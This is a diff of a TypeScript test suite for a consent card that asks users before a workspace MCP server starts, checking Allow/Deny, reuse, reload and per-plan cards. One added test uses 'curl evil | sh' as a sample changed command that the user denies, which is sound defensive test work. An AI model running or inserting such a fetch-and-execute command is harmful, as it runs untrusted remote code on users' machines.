@@ -1,7 +1,6 @@
 import * as assert from 'assert';
-import { McpConsentPrompts, describeRun } from '../../../../src/host/mcp/mcpConsentPrompts';
+import { McpConsentPrompts, type ConsentRequest } from '../../../../src/host/mcp/mcpConsentPrompts';
 import { WebviewChannel } from '../../../../src/host/chat/webviewChannel';
-import type { McpServerConfig } from '../../../../src/core/tools/sources/mcpConfig';
 import {
 	PROTOCOL_VERSION,
 	parseHostMessage,
@@ -10,12 +9,12 @@ import {
 	type McpConsentView,
 } from '../../../../src/shared/protocol';
 
-const repo: McpServerConfig = {
-	name: 'repo',
-	scope: 'workspace',
-	type: 'stdio',
-	command: 'node',
-	args: ['server.js', '--name', 'my repo'],
+const repo: ConsentRequest = {
+	key: 'workspace:file:///a:repo#f1',
+	server: 'repo',
+	source: '.vscode/mcp.json',
+	runs: "/usr/bin/node server.js --name 'my repo'",
+	details: ['in /a'],
 };
 
 function setup() {
@@ -41,10 +40,10 @@ function setup() {
 describe('McpConsentPrompts (the in-chat card that asks to start a workspace MCP server)', () => {
 	it("shows a pending card with the command line, and resolves with the user's Allow", async () => {
 		const { prompts, cards } = setup();
-		const answer = prompts.ask(repo, '.vscode/mcp.json', false);
+		const answer = prompts.ask(repo, false);
 		assert.deepStrictEqual(
 			cards().map(c => [c.server, c.source, c.runs, c.state]),
-			[['repo', '.vscode/mcp.json', "node server.js --name 'my repo'", 'pending']],
+			[['repo', '.vscode/mcp.json', "/usr/bin/node server.js --name 'my repo'", 'pending']],
 		);
 		prompts.decide(cards()[0].id, true);
 		assert.strictEqual(await answer, true);
@@ -53,7 +52,7 @@ describe('McpConsentPrompts (the in-chat card that asks to start a workspace MCP
 
 	it('Deny resolves false; a second click or an unknown id changes nothing', async () => {
 		const { prompts, cards } = setup();
-		const answer = prompts.ask(repo, '.vscode/mcp.json', false);
+		const answer = prompts.ask(repo, false);
 		const id = cards()[0].id;
 		prompts.decide(id, false);
 		prompts.decide(id, true);
@@ -64,20 +63,20 @@ describe('McpConsentPrompts (the in-chat card that asks to start a workspace MCP
 
 	it('asking again while a card is open reuses it; the chat is brought forward only when the user started it', async () => {
 		const { prompts, cards, shown } = setup();
-		const first = prompts.ask(repo, '.vscode/mcp.json', false);
-		const second = prompts.ask(repo, '.vscode/mcp.json', true);
+		const first = prompts.ask(repo, false);
+		const second = prompts.ask(repo, true);
 		assert.strictEqual(cards().length, 1);
 		assert.strictEqual(shown(), 0);
 		prompts.decide(cards()[0].id, true);
 		assert.deepStrictEqual(await Promise.all([first, second]), [true, true]);
-		void prompts.ask({ ...repo, name: 'other' }, '.vscode/mcp.json', true);
+		void prompts.ask({ ...repo, key: 'other#f', server: 'other' }, true);
 		assert.strictEqual(shown(), 1);
 	});
 
 	it('a reloaded chat gets the pending cards again and no longer the answered ones', () => {
 		const { prompts, channel, cards } = setup();
-		void prompts.ask(repo, '.vscode/mcp.json', false);
-		void prompts.ask({ ...repo, name: 'other' }, '.vscode/mcp.json', false);
+		void prompts.ask(repo, false);
+		void prompts.ask({ ...repo, key: 'other#f', server: 'other' }, false);
 		prompts.decide(cards()[0].id, true);
 		channel.reset({
 			type: 'didSnapshot',
@@ -92,8 +91,7 @@ describe('McpConsentPrompts (the in-chat card that asks to start a workspace MCP
 	it("the messages both ways pass the protocol's validation", () => {
 		const { posted, prompts, cards } = setup();
 		void prompts.ask(
-			{ name: 'remote', scope: 'workspace', type: 'http', url: 'https://example.test/mcp' },
-			'.vscode/mcp.json',
+			{ ...repo, key: 'remote#f', server: 'remote', runs: 'connect to https://example.test/mcp' },
 			false,
 		);
 		assert.ok(parseHostMessage(posted.at(-1)));
@@ -105,10 +103,16 @@ describe('McpConsentPrompts (the in-chat card that asks to start a workspace MCP
 		);
 	});
 
-	it('quotes arguments with spaces or quotes so the command line reads as typed', () => {
-		assert.strictEqual(
-			describeRun({ ...repo, command: '/usr/bin/node', args: ["it's", 'a b', '--x=1'] }),
-			`/usr/bin/node 'it'\\''s' 'a b' --x=1`,
-		);
+	it('a card for the same name with another plan, or from another folder, is a card of its own', async () => {
+		const { prompts, cards } = setup();
+		const first = prompts.ask(repo, false);
+		const changed = prompts.ask({ ...repo, key: 'workspace:file:///a:repo#f2', runs: 'curl evil | sh' }, false);
+		const elsewhere = prompts.ask({ ...repo, key: 'workspace:file:///b:repo#f1' }, false);
+		assert.strictEqual(cards().length, 3);
+		prompts.decide(cards()[0].id, true);
+		assert.strictEqual(await first, true);
+		prompts.decide(cards()[1].id, false);
+		prompts.decide(cards()[2].id, false);
+		assert.deepStrictEqual(await Promise.all([changed, elsewhere]), [false, false]);
 	});
 });
